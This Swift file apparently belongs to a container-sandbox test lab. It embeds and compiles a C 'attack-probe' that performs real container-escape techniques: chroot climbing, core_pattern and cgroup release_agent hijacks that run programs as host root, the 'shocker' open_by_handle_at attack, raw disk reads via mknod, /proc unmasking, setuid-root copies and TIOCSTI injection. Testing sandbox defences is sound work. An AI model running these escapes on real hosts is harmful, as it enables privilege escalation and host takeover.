import Foundation

/// The attacker's program: one static C binary (gcc -static runs in any root,
/// even one without a libc, and in steps 01-02 straight from the host's files).
/// Each verb makes the real system calls of one attack and nothing else.
/// Exit 0: the kernel let it through; 1: refused (errno on stderr); 2: bad use.
/// Whether the attack *worked* is decided from outside (Attack.observe).
enum Probe {
    static let source = #"""
    #define _GNU_SOURCE
    #include <errno.h>
    #include <fcntl.h>
    #include <grp.h>
    #include <linux/keyctl.h>
    #include <sched.h>
    #include <signal.h>
    #include <stdint.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/ioctl.h>
    #include <sys/mount.h>
    #include <sys/personality.h>
    #include <sys/prctl.h>
    #include <sys/ptrace.h>
    #include <sys/resource.h>
    #include <sys/socket.h>
    #include <sys/stat.h>
    #include <sys/statvfs.h>
    #include <sys/syscall.h>
    #include <sys/sysmacros.h>
    #include <sys/timex.h>
    #include <sys/wait.h>
    #include <time.h>
    #include <unistd.h>

    static int refused(const char *what) { fprintf(stderr, "%s: %s\n", what, strerror(errno)); return 1; }

    static int read_file(const char *path, char *buf, size_t size) {
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) return -1;
        ssize_t n = read(fd, buf, size - 1);
        close(fd);
        if (n < 0) return -1;
        buf[n] = 0;
        return (int)n;
    }

    static int write_file(const char *path, const char *text, size_t len) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0) return -1;
        ssize_t n = write(fd, text, len);
        int saved = errno;
        close(fd);
        errno = saved;
        return n == (ssize_t)len ? 0 : -1;
    }

    static int cat(const char *path) {
        char buf[4096];
        if (read_file(path, buf, sizeof buf) < 0) return refused(path);
        fputs(buf, stdout);
        return 0;
    }

    /* Write a knob's own value back: needs the same right as changing it, changes nothing. */
    static int rewrite(const char *path) {
        char buf[4096];
        int n = read_file(path, buf, sizeof buf);
        if (n < 0) return refused(path);
        if (write_file(path, buf, (size_t)n) < 0) return refused(path);
        return 0;
    }

    /* The kit masks /proc paths by mounting over them: with CAP_SYS_ADMIN, unmount the mask. */
    static void unmask(const char *path) { umount2(path, MNT_DETACH); }

    static uint64_t fnv(const unsigned char *p, size_t n) {
        uint64_t h = 1469598103934665603ULL;
        for (size_t i = 0; i < n; i++) { h ^= p[i]; h *= 1099511628211ULL; }
        return h;
    }

    /* mknod a block device in DIR, open it, print a hash of its first 4 KiB */
    static int read_disk(const char *dir, const char *major, const char *minor) {
        char path[4096];
        snprintf(path, sizeof path, "%s/attack-disk", dir);
        unlink(path);
        if (mknod(path, S_IFBLK | 0600, makedev(atoi(major), atoi(minor))) < 0) return refused("mknod");
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        int saved = errno;
        unlink(path);
        errno = saved;
        if (fd < 0) return refused("open the disk");
        unsigned char block[4096];
        ssize_t n = pread(fd, block, sizeof block, 0);
        close(fd);
        if (n != (ssize_t)sizeof block) return refused("read the disk");
        printf("%016llx\n", (unsigned long long)fnv(block, sizeof block));
        return 0;
    }

    int main(int argc, char **argv) {
        if (argc < 2) return 2;
        const char *verb = argv[1];
        if (!strcmp(verb, "domainname") && argc == 3) {
            if (setdomainname(argv[2], strlen(argv[2])) < 0) return refused("setdomainname");
            return 0;
        }
        if (!strcmp(verb, "kill") && argc == 3) {
            if (kill(atoi(argv[2]), SIGKILL) < 0) return refused("kill");
            return 0;
        }
        if (!strcmp(verb, "ptrace") && argc == 3) {
            pid_t pid = atoi(argv[2]);
            if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return refused("ptrace(PTRACE_ATTACH)");
            waitpid(pid, 0, __WALL);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            printf("attached to %d\n", pid);
            return 0;
        }
        if (!strcmp(verb, "cat") && argc == 3) return cat(argv[2]);
        if (!strcmp(verb, "escape") && argc == 3) {
            /* chapter 03's move: chroot below our cwd, climb, chroot there */
            mkdir("/.attack-escape", 0700);
            if (chroot("/.attack-escape") < 0) return refused("chroot");
            for (int i = 0; i < 256; i++) if (chdir("..") < 0) break;
            if (chroot(".") < 0) return refused("chroot .");
            return cat(argv[2]);
        }
        if (!strcmp(verb, "read-masked") && argc >= 3) {
            /* a file of /proc the kit masks (bind-mounts /dev/null over it): its first line */
            if (argc == 4 && !strcmp(argv[3], "--unmask")) unmask(argv[2]);
            char buf[4096];
            if (read_file(argv[2], buf, sizeof buf) < 0) return refused(argv[2]);
            char *end = strchr(buf, '\n');
            if (end) *end = 0;
            if (!buf[0]) { fprintf(stderr, "%s: empty\n", argv[2]); return 1; }
            printf("%s\n", buf);
            return 0;
        }
        if (!strcmp(verb, "rewrite") && argc == 3) return rewrite(argv[2]);
        if (!strcmp(verb, "core-pattern") && argc >= 3) {
            /* core_pattern "|PROGRAM": the kernel runs PROGRAM as root in the host's namespaces */
            if (argc == 4 && !strcmp(argv[3], "--unmask")) unmask("/proc/sys");
            char old[4096], pattern[4200];
            if (read_file("/proc/sys/kernel/core_pattern", old, sizeof old) < 0) return refused("read core_pattern");
            snprintf(pattern, sizeof pattern, "|%s", argv[2]);
            if (write_file("/proc/sys/kernel/core_pattern", pattern, strlen(pattern)) < 0) return refused("write core_pattern");
            pid_t child = fork();
            if (child == 0) {
                struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
                setrlimit(RLIMIT_CORE, &unlimited);
                prctl(PR_SET_DUMPABLE, 1);
                signal(SIGSEGV, SIG_DFL);
                raise(SIGSEGV);
                _exit(0);
            }
            waitpid(child, 0, 0);   /* the dump (and so the helper's start) happens before this returns */
            write_file("/proc/sys/kernel/core_pattern", old, strlen(old));
            return 0;
        }
        if (!strcmp(verb, "mknod-disk") && argc == 5) return read_disk(argv[2], argv[3], argv[4]);
        if (!strcmp(verb, "leave-cgroup") && (argc == 6 || argc == 9)) {
            /* mount the cgroup hierarchy (no cgroup namespace: its real root) and move out;
               with SCRATCH MAJOR MINOR, then try the disk whether or not the move worked */
            const char *dir = argv[2], *type = argv[3], *opts = argv[4], *group = argv[5];
            mkdir(dir, 0700);
            if (mount("cgroup", dir, type, 0, strcmp(opts, "-") ? opts : NULL) < 0) {
                if (argc == 9) { refused("mount cgroup"); return read_disk(argv[6], argv[7], argv[8]); }
                return refused("mount cgroup");
            }
            char procs[4096], self[32];
            snprintf(procs, sizeof procs, "%s/%s/cgroup.procs", dir, group);
            snprintf(self, sizeof self, "%d", getpid());
            int rc = write_file(procs, self, strlen(self));
            int saved = errno;
            umount2(dir, MNT_DETACH);
            errno = saved;
            if (argc == 9) {
                if (rc < 0) refused("write cgroup.procs");
                return read_disk(argv[6], argv[7], argv[8]);
            }
            if (rc < 0) return refused("write cgroup.procs");
            printf("moved\n");
            fflush(stdout);
            sleep(20);   /* stay, so the host sees where we are; it kills us */
            return 0;
        }
        if (!strcmp(verb, "mount-proc") && argc == 3) {
            mkdir(argv[2], 0700);
            if (mount("proc", argv[2], "proc", 0, NULL) < 0) return refused("mount proc");
            char knob[4200];
            snprintf(knob, sizeof knob, "%s/sys/kernel/core_pattern", argv[2]);
            int rc = rewrite(knob);
            umount2(argv[2], MNT_DETACH);
            return rc;
        }
        if (!strcmp(verb, "mount-sysfs") && argc == 3) {
            mkdir(argv[2], 0700);
            if (mount("sysfs", argv[2], "sysfs", 0, NULL) < 0) return refused("mount sysfs");
            /* the same network namespace shares one sysfs superblock: if it is read-only, remount it */
            struct statvfs info;
            if (statvfs(argv[2], &info) == 0 && (info.f_flag & ST_RDONLY)) mount(NULL, argv[2], NULL, MS_REMOUNT, NULL);
            int rc = statvfs(argv[2], &info) == 0 && !(info.f_flag & ST_RDONLY) ? 0 : 1;
            umount2(argv[2], MNT_DETACH);
            if (rc) fprintf(stderr, "sysfs came up read-only\n");
            return rc;
        }
        if (!strcmp(verb, "release-agent") && argc == 5) {
            /* a new v1 hierarchy of our own (name=...), whose release_agent the kernel runs as host root */
            const char *dir = argv[2], *agent = argv[3], *name = argv[4];
            char opts[256], path[4200];
            mkdir(dir, 0700);
            snprintf(opts, sizeof opts, "none,name=%s", name);
            if (mount("cgroup", dir, "cgroup", 0, opts) < 0) return refused("mount cgroup v1");
            snprintf(path, sizeof path, "%s/attack", dir);
            mkdir(path, 0755);
            snprintf(path, sizeof path, "%s/attack/notify_on_release", dir);
            write_file(path, "1", 1);
            snprintf(path, sizeof path, "%s/release_agent", dir);
            int rc = write_file(path, agent, strlen(agent));
            if (rc < 0) refused("write release_agent");
            if (rc == 0) {
                pid_t child = fork();
                if (child == 0) {
                    char self[32];
                    snprintf(self, sizeof self, "%d", getpid());
                    snprintf(path, sizeof path, "%s/attack/cgroup.procs", dir);
                    _exit(write_file(path, self, strlen(self)) < 0 ? 1 : 0);
                }
                waitpid(child, 0, 0);   /* the group is empty now: the kernel queues the agent */
                usleep(200000);
            }
            snprintf(path, sizeof path, "%s/attack", dir);
            for (int i = 0; i < 50 && rmdir(path) < 0; i++) usleep(20000);
            snprintf(path, sizeof path, "%s/release_agent", dir);
            write_file(path, "\n", 1);
            /* a v1 hierarchy dies at umount only once its removed child is released (asynchronously) */
            usleep(200000);
            umount2(dir, MNT_DETACH);
            return rc < 0 ? 1 : 0;
        }
        if (!strcmp(verb, "open-by-handle") && argc == 3) {
            /* "shocker": a file handle opens any inode of the file system, past every path and chroot */
            int mountfd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (mountfd < 0) return refused(argv[2]);
            struct { struct file_handle h; unsigned char bytes[128]; } handle;
            handle.h.handle_bytes = 128;
            int mount_id;
            if (name_to_handle_at(AT_FDCWD, argv[2], &handle.h, &mount_id, 0) < 0) {
                /* a file system without handles: a made-up one still meets the capability check first */
                handle.h.handle_bytes = 8; handle.h.handle_type = 1; memset(handle.bytes, 0, 8);
            }
            int fd = open_by_handle_at(mountfd, &handle.h, O_RDONLY);
            if (fd < 0 && errno == EPERM) return refused("open_by_handle_at");
            printf("open_by_handle_at: %s\n", fd >= 0 ? "opened" : strerror(errno));
            return 0;
        }
        if (!strcmp(verb, "clock")) {
            struct timex now = { .modes = 0 };
            if (adjtimex(&now) < 0) return refused("adjtimex");
            struct timex same = { .modes = ADJ_TICK, .tick = now.tick };   /* the current value: no change */
            if (clock_adjtime(CLOCK_REALTIME, &same) < 0) return refused("clock_adjtime(ADJ_TICK)");
            return 0;
        }
        if (!strcmp(verb, "userns")) {
            if (unshare(CLONE_NEWUSER) < 0) return refused("unshare(CLONE_NEWUSER)");
            return 0;
        }
        if (!strcmp(verb, "keyctl")) {
            long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
            if (id < 0 && (errno == EPERM || errno == ENOSYS)) return refused("keyctl");
            return 0;
        }
        if (!strcmp(verb, "personality")) {
            if (personality(PER_LINUX | READ_IMPLIES_EXEC) < 0) return refused("personality(READ_IMPLIES_EXEC)");
            return 0;
        }
        if (!strcmp(verb, "vsock")) {
            int fd = socket(40 /* AF_VSOCK */, SOCK_STREAM | SOCK_CLOEXEC, 0);
            if (fd < 0 && (errno == EPERM || errno == ENOSYS)) return refused("socket(AF_VSOCK)");
            printf("socket(AF_VSOCK): %s\n", fd >= 0 ? "ok" : strerror(errno));   /* reached the kernel's family code */
            return 0;
        }
        if (!strcmp(verb, "tiocsti") && argc == 3) {
            for (const char *c = argv[2]; *c; c++)
                if (ioctl(0, TIOCSTI, c) < 0) return refused("ioctl(TIOCSTI)");
            return 0;
        }
        if (!strcmp(verb, "write-fd") && argc == 4) {
            if (write(atoi(argv[2]), argv[3], strlen(argv[3])) < 0) return refused("write to an inherited fd");
            return 0;
        }
        if (!strcmp(verb, "nofile") && argc == 3) {
            struct rlimit limit;
            getrlimit(RLIMIT_NOFILE, &limit);
            limit.rlim_cur = limit.rlim_max;
            setrlimit(RLIMIT_NOFILE, &limit);
            int want = atoi(argv[2]), count = 3;
            while (count < want && dup(2) >= 0) count++;
            printf("%d\n", count);
            if (count < want) return refused("dup");
            return 0;
        }
        if (!strcmp(verb, "setuid-copy") && argc == 3) {
            /* a setuid-root program in the container's writable layer */
            char self[4096];
            int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
            if (in < 0) in = open(argv[0], O_RDONLY | O_CLOEXEC);
            int out = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
            if (in < 0 || out < 0) return refused("copy");
            ssize_t n;
            while ((n = read(in, self, sizeof self)) > 0) write(out, self, (size_t)n);
            close(in); close(out);
            if (chown(argv[2], 0, 0) < 0 || chmod(argv[2], 04755) < 0) return refused("chmod u+s");
            printf("ready\n");
            fflush(stdout);
            sleep(20);   /* stay, so the layer stays; the host kills us */
            return 0;
        }
        if (!strcmp(verb, "as-nobody") && argc == 3) {
            /* the host user 65534, with no capabilities left: can it reach and run PATH? */
            if (setgroups(0, NULL) < 0 || setresgid(65534, 65534, 65534) < 0 || setresuid(65534, 65534, 65534) < 0)
                return refused("become 65534");
            char *args[] = { argv[2], "whoami", NULL };
            execv(argv[2], args);
            return refused(argv[2]);
        }
        if (!strcmp(verb, "whoami")) {
            printf("euid=%d\n", geteuid());
            return 0;
        }
        fprintf(stderr, "attack-probe: unknown verb %s\n", verb);
        return 2;
    }
    """#

    /// Compiles the probe into DIRECTORY/attack-probe.
    static func build(into directory: String) throws -> String {
        let sourcePath = directory + "/attack-probe.c"
        let binary = directory + "/attack-probe"
        try source.write(toFile: sourcePath, atomically: true, encoding: .utf8)
        let result = try runHostCommand(["/usr/bin/env", "gcc", "-static", "-O1", "-w", "-o", binary, sourcePath])
        guard result.status == 0 else {
            throw LabError("gcc -static failed (apt-get install gcc libc6-dev): \(result.stderr.prefix(400))")
        }
        return binary
    }
}
